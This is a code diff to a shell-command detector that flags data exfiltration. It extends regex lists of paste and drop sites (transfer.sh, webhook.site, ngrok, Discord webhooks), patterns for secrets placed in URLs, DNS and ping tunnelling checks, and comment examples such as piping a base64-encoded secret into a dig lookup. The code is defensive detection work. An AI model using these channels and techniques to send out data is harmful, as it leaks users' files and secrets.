@@ -7,7 +7,8 @@ import { sourcesOf, upstreamOf } from '../shell/lineage.ts'
 import { hasMarker, type Invocation, type Reading } from '../shell/model.ts'
 import { carried, collectors } from './carriers.ts'
 import { client } from './clients.ts'
-import { throughMounts } from './mounts.ts'
+import { dataFile, matterOf } from './matters.ts'
+import { ontoSticks, throughMounts } from './mounts.ts'
 import { byProgram } from './programs.ts'
 import { stores } from './stores.ts'
 import { codedName, namedAnywhere, stranger } from './strangers.ts'
@@ -24,6 +25,7 @@ export const upload: CommandDetector = {
     ...reading.invocations.flatMap((invocation) => stores(invocation, reading)),
     ...reading.invocations.flatMap((invocation) => namedAnywhere(invocation, reading)),
     ...throughMounts(reading),
+    ...reading.invocations.flatMap(ontoSticks),
     ...reading.windows.flatMap(ofWindows),
     ...reading.invocations.flatMap((each) => (looksUp.test(each.name) ? codedName(each) : [])),
     ...reading.programs.flatMap(byProgram),
@@ -33,7 +35,7 @@ export const upload: CommandDetector = {
 const looksUp = /^(dig|nslookup|host|drill|kdig|resolvectl|ping6?|curl|wget)$/
 
 const dropPlaces =
-  /(transfer\.sh|file\.io|0x0\.st|anonfiles|gofile\.io|bashupload|catbox\.moe|pastebin\.com|paste\.ee|termbin|ix\.io|sprunge\.us|dpaste|webhook\.site|pipedream\.net|requestbin|requestcatcher|beeceptor|interact\.sh|oast\.|burpcollaborator|ngrok|trycloudflare|discord(app)?\.com\/api\/webhooks|api\.telegram\.org|hooks\.slack\.com|temp\.sh|oshi\.at|wetransfer|mega\.nz|content\.dropboxapi\.com|api\.github\.com\/(gists|repos\/[^/]+\/[^/]+\/contents)|googleapis\.com\/upload|graph\.microsoft\.com\/\S*\/drive|hastebin|ghostbin|rentry\.co|privatebin|keep\.sh|filebin|uguu|pixeldrain|litterbox)/i
+  /(transfer\.sh|file\.io|0x0\.st|anonfiles|gofile\.io|bashupload|catbox\.moe|pastebin\.com|paste\.ee|termbin|ix\.io|sprunge\.us|dpaste|webhook\.site|pipedream\.net|requestbin|requestcatcher|beeceptor|interact\.sh|oast\.|burpcollaborator|ngrok|trycloudflare|discord(app)?\.com\/api\/webhooks|api\.telegram\.org|hooks\.slack\.com|temp\.sh|oshi\.at|wetransfer|mega\.nz|content\.dropboxapi\.com|api\.github\.com\/(gists|repos\/[^/]+\/[^/]+\/contents)|googleapis\.com\/upload|graph\.microsoft\.com\/\S*\/drive|hastebin|ghostbin|rentry\.co|privatebin|[/.]paste\w*\.\w|keep\.sh|filebin|uguu|pixeldrain|litterbox)/i
 const rawHost =
   /^(?:[a-z]+:\/\/)?(?:[^/@]*@)?(?!127\.|10\.0\.2\.|localhost)\d{1,3}(?:\.\d{1,3}){3}(?:[:/]|$)/i
 
@@ -109,7 +111,7 @@ function wgetBodies(args: readonly string[]): readonly string[] {
 
 /** `field@file` sends a file. */
 function httpieBodies({ args, streams }: Invocation): readonly string[] {
-  if (streams.stdin.kind === 'file' && isData.test(streams.stdin.path)) return [`@${streams.stdin.path}`]
+  if (streams.stdin.kind === 'file' && dataFile.test(streams.stdin.path)) return [`@${streams.stdin.path}`]
   return args
     .filter((arg) => /^[\w-]*=?@[^/]*[./]/.test(arg) || /^[\w-]+@[~./]/.test(arg))
     .map((arg) => arg.replace(/^[\w-]*=?@/, '@'))
@@ -128,6 +130,10 @@ function asides(args: readonly string[]): readonly string[] {
   })
 }
 
+/** A variable that is a secret by its name, as a step of a path or asked for under a name that tokens do not have. */
+const secretInPath =
+  /^https?:\/\/[^/\s]+(\/[\w.%-]*)*(\/|\?(?!\w*(token|key|auth|secret|code|sig\w*|api\w*|pass\w*)=)\w+=)\$\{?[A-Z][A-Z0-9_]*(SECRET|TOKEN|PASSWORD|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY)[A-Z0-9_]*\}?/
+
 function web(invocation: Invocation, reading: Reading, bodies: readonly string[]): readonly Finding[] {
   const { args, name } = invocation
   const address =
@@ -139,6 +145,8 @@ function web(invocation: Invocation, reading: Reading, bodies: readonly string[]
         source.name,
       ),
   )
+  if (secretInPath.test(address) && !isNear(address))
+    return [finding(NAME, 'upload.address', 'high', `${name} puts a secret into an address`)]
   if (inAddress.length > 0)
     return [
       finding(
@@ -182,23 +190,21 @@ function web(invocation: Invocation, reading: Reading, bodies: readonly string[]
   if (file === '-' || file === '/dev/stdin') return piped(invocation, reading, isDrop)
   if (isDrop)
     return [finding(NAME, 'upload.drop', 'high', `${name} sends ${shown(what)} to ${shown(address)}`)]
+  const shownFile = file === undefined && !isNear(address) ? fileIn(bodies, reading) : undefined
   const place = file === undefined ? 'project' : placeOf(file)
-  const isSystem = place === 'system' || /^\/(etc|var\/lib|root|proc)\//.test(`${file ?? ''}/`)
+  const isSystem = place === 'system' || /^\/(etc|var\/lib|root|proc)\//.test(`${file ?? shownFile ?? ''}/`)
   if (isSystem) return [finding(NAME, 'upload.system', 'high', `${name} sends ${shown(what)} away`)]
   const gathered = file === undefined ? undefined : gathererOf(file, reading)
   if (gathered !== undefined)
     return [finding(NAME, 'upload.drop', 'high', `${name} sends what ${gathered.name} made of files away`)]
-  const isWhole = file !== undefined && !isNear(address) && isFile(invocation, file)
+  const isWhole =
+    shownFile !== undefined || (file !== undefined && !isNear(address) && isFile(invocation, file))
   return [finding(NAME, 'upload.file', isWhole ? 'medium' : 'low', `${name} sends ${shown(what)} away`)]
 }
 
 /** A number that no private network uses. */
 const publicNumber =
   /^(?:[a-z]+:\/\/)?(?:[^/@]*@)?(?!(?:0|10|127|255|169\.254|192\.168|172\.(?:1[6-9]|2\d|3[01]))\.)\d{1,3}(?:\.\d{1,3}){3}(?:[:/]|$)/i
-
-/** What people keep data in, not what programs are written or called in. */
-const isData =
-  /\.(csv|tsv|xlsx?|docx?|pptx?|pdf|sqlite3?|db|mdb|dump|sql|bak|zip|7z|rar|tar|tgz|gz|bz2|xz|zst|pst|ost|eml|mbox|pcap|dmp|kdbx|key|pem|vcf|wallet|parquet|tar\.\w+)$/i
 
 const nearHost =
   /^(?:127\.[\d.]+|0\.0\.0\.0|\[::1\]|[\w-]+|intranet\.[\w.-]+|[\w.-]+\.(?:internal|local|localhost|lan|corp|intranet|svc|test))$/i
@@ -209,14 +215,25 @@ function isNear(address: string): boolean {
   return nearHost.test(/^(\[[^\]]*\]|[^:/?#]*)/.exec(host)?.[1] ?? '')
 }
 
+const asked = /\.(json|jsonl|ndjson|xml|ya?ml|graphql|form|sql|protobuf|soap|wat|lcov|info)$/i
+
 /** A file itself, not the body of a request kept in one: what interfaces are called with is text in a few formats. */
 function isFile({ name, args }: Invocation, file: string): boolean {
-  if (/\.(json|jsonl|ndjson|xml|ya?ml|graphql|form|sql|protobuf|soap|wat|lcov|info)$/i.test(file))
-    return false
-  if (/^(wget|xh|https?)$/.test(name)) return true
-  return args.some(
-    (arg) => /^(-T|-F|--upload-file|--form|--data-binary|\w*@)/.test(arg) || /^-[sSkLfgvi#]*T$/.test(arg),
+  const isHandedOver = args.some(
+    (arg) => /^(-T|-F|--upload-file|--form|--multipart|\w*@)/.test(arg) || /^-[sSkLfgvi#]*T$/.test(arg),
   )
+  if (asked.test(file)) return isHandedOver && /\.sql$/i.test(file)
+  return /^(wget|xh|https?)$/.test(name) || isHandedOver || args.some((arg) => /^--data-binary/.test(arg))
+}
+
+/** `-d "$(cat notes.txt)"`: the file whose text the body is made of, unless it is written to be a body. */
+function fileIn(bodies: readonly string[], reading: Reading): string | undefined {
+  return bodies
+    .filter((body) => !/^\w*(token|key|secret|password|code)=/i.test(body))
+    .flatMap((body) => sourcesOf(body, reading))
+    .filter(({ name }) => /^(cat|head|tail|strings|tac|nl|dd)$/.test(name))
+    .flatMap(({ args }) => args.map((arg) => arg.replace(/^if=/, '')))
+    .find((arg) => /[./]/.test(arg) && !arg.startsWith('-') && !asked.test(arg))
 }
 
 /** What packed or encoded the file that is sent. */
@@ -238,12 +255,15 @@ function piped(invocation: Invocation, reading: Reading, isDrop: boolean): reado
   const sources = upstreamOf(invocation, reading)
   const address = invocation.args.find((arg) => /^https?:\/\//i.test(arg)) ?? ''
   // A file on its way through `cat` is sent whole, as `@file` is.
+  const isStreamed = invocation.args.some((arg) => /^-[sSkLfgvi#]*T$|^--upload-file$/.test(arg))
   const isFileSent =
     !isNear(address) &&
-    sources.some(
-      (source) =>
-        encoders.test(source.name) || (source.name === 'cat' && source.args.some((arg) => isData.test(arg))),
-    )
+    ((isStreamed && !sources.some((source) => collectors.test(source.name))) ||
+      sources.some(
+        (source) =>
+          encoders.test(source.name) ||
+          (source.name === 'cat' && source.args.some((arg) => dataFile.test(arg))),
+      ))
   if (isFileSent && !isDrop)
     return [
       finding(NAME, 'upload.file', 'medium', `sends a file through ${shown(sources.at(-1)?.name ?? '')}`),
@@ -273,12 +293,16 @@ function copied({ name, args }: Invocation): readonly Finding[] {
   const isWide = words.slice(0, -1).some((word) => /^(root|system|home|personal)$/.test(placeOf(word)))
   if (isWide)
     return [finding(NAME, 'upload.system', 'high', `${name} copies what matters to ${shown(target)}`)]
-  const severity = rawHost.test(target) ? 'medium' : 'info'
+  const isFar = !isNear(target) && /\.[a-z]{2,}:|\d:/i.test(target)
+  const what = isFar ? words.slice(0, -1).find((word) => matterOf(word) !== undefined) : undefined
+  const severity = rawHost.test(target) || what !== undefined ? 'medium' : 'info'
   return [finding(NAME, 'upload.copy', severity, `${name} copies to ${shown(target)}`)]
 }
 
 /** Names looked up that are made of data: `dig $(cat secret | base64).example.com`. */
 function named(invocation: Invocation, reading: Reading): readonly Finding[] {
+  if (invocation.name === 'ping' && invocation.args.at(-1) === '-p')
+    return [finding(NAME, 'upload.names', 'high', 'ping carries data that a program puts together')]
   const word = invocation.args.find((arg) => sourcesOf(arg, reading).length > 0)
   if (word === undefined || !/\uE001[\w-]*\.[\w.-]+/.test(word))
     return invocation.name === 'ping' && invocation.args.includes('-p') && word !== undefined
@@ -323,6 +347,7 @@ function raw(invocation: Invocation, reading: Reading): readonly Finding[] {
     (source) =>
       collectors.test(source.name) ||
       source.name === 'cat' ||
+      clipboards.test(source.name) ||
       (/^(dd|base64|xxd|gzip|openssl|gpg|head|tail|strings)$/.test(source.name) &&
         source.args.some((arg) => /^(if=)?[~/.]/.test(arg))),
   )
